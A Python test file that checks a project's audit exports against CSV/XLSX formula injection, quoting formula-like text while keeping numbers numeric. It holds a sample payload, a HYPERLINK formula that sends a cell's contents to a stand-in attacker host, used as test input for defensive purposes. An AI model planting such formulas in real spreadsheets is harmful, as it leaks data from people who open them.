"""Exports neutralise text a spreadsheet would run as a formula; numbers stay numbers."""

from __future__ import annotations

import csv
from datetime import UTC, datetime

import polars as pl
import pytest
from openpyxl import load_workbook

from baton.analytics.audit import audit_table, write_csv, write_xlsx
from baton.analytics.cases import summarise
from baton.analytics.spreadsheet import FORMULA_STARTS, neutralise_formulas

from .history import FRONT, build, e

EVIL_TEAM = '=HYPERLINK("http://attacker.example/?"&A1,"help")'
EVIL_AGENT = "=1+2"


def csv_rows(path):
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream))


def xlsx_cells(path):
    workbook = load_workbook(path)
    try:
        return [list(row) for row in workbook["audit"].iter_rows()]
    finally:
        workbook.close()


@pytest.mark.parametrize("first", FORMULA_STARTS)
def test_every_text_that_could_start_a_formula_gets_a_quote_in_front(first):
    table = pl.DataFrame({"name": [f"{first}cmd", "plain", None]})
    assert neutralise_formulas(table).get_column("name").to_list() == [f"'{first}cmd", "plain", None]


def test_a_team_and_an_agent_named_like_formulas_export_as_text_in_csv_and_xlsx(tmp_path):
    log = build([e("A", 0, team=EVIL_TEAM, agent=EVIL_AGENT, tier=1), e("A", 30, kind="resolved")])
    table = audit_table(log, summarise(log))
    write_csv(table, tmp_path / "audit.csv")
    write_xlsx(table, tmp_path / "audit.xlsx")

    header, row = csv_rows(tmp_path / "audit.csv")
    assert row[header.index("initial_agent")] == "'" + EVIL_AGENT
    assert row[header.index("escalation_path")].startswith("'" + EVIL_TEAM)

    cells = xlsx_cells(tmp_path / "audit.xlsx")
    names = [c.value for c in cells[0]]
    agent = cells[1][names.index("initial_agent")]
    path = cells[1][names.index("escalation_path")]
    assert (agent.data_type, agent.value) == ("s", "'" + EVIL_AGENT)
    assert path.data_type == "s" and path.value.startswith("'" + EVIL_TEAM)


def test_numbers_negative_ones_included_stay_numbers_and_text_that_looks_negative_is_text(tmp_path):
    table = pl.DataFrame(
        {
            "ticket": ["-42", "T2"],
            "delta": [-3, 4],
            "hours": [-1.5, 2.0],
            "created": [datetime(2026, 11, 2, 9, 0, tzinfo=UTC)] * 2,
        }
    )
    write_csv(table, tmp_path / "t.csv")
    write_xlsx(table, tmp_path / "t.xlsx")

    assert csv_rows(tmp_path / "t.csv")[1] == ["'-42", "-3", "-1.5", "2026-11-02T09:00:00Z"]
    first = xlsx_cells(tmp_path / "t.xlsx")[1]
    assert [(c.data_type, c.value) for c in first[:3]] == [("s", "'-42"), ("n", -3), ("n", -1.5)]
    assert first[3].value == datetime(2026, 11, 2, 9, 0, tzinfo=UTC).replace(tzinfo=None)  # Excel keeps no zone


def test_control_characters_in_a_name_do_not_stop_the_xlsx_export(tmp_path):
    log = build([e("A", 0, agent="ann\x01\x07", **FRONT)])
    write_xlsx(audit_table(log, summarise(log)), tmp_path / "audit.xlsx")
    cells = xlsx_cells(tmp_path / "audit.xlsx")
    names = [c.value for c in cells[0]]
    assert cells[1][names.index("initial_agent")].value == "ann\ufffd\ufffd"
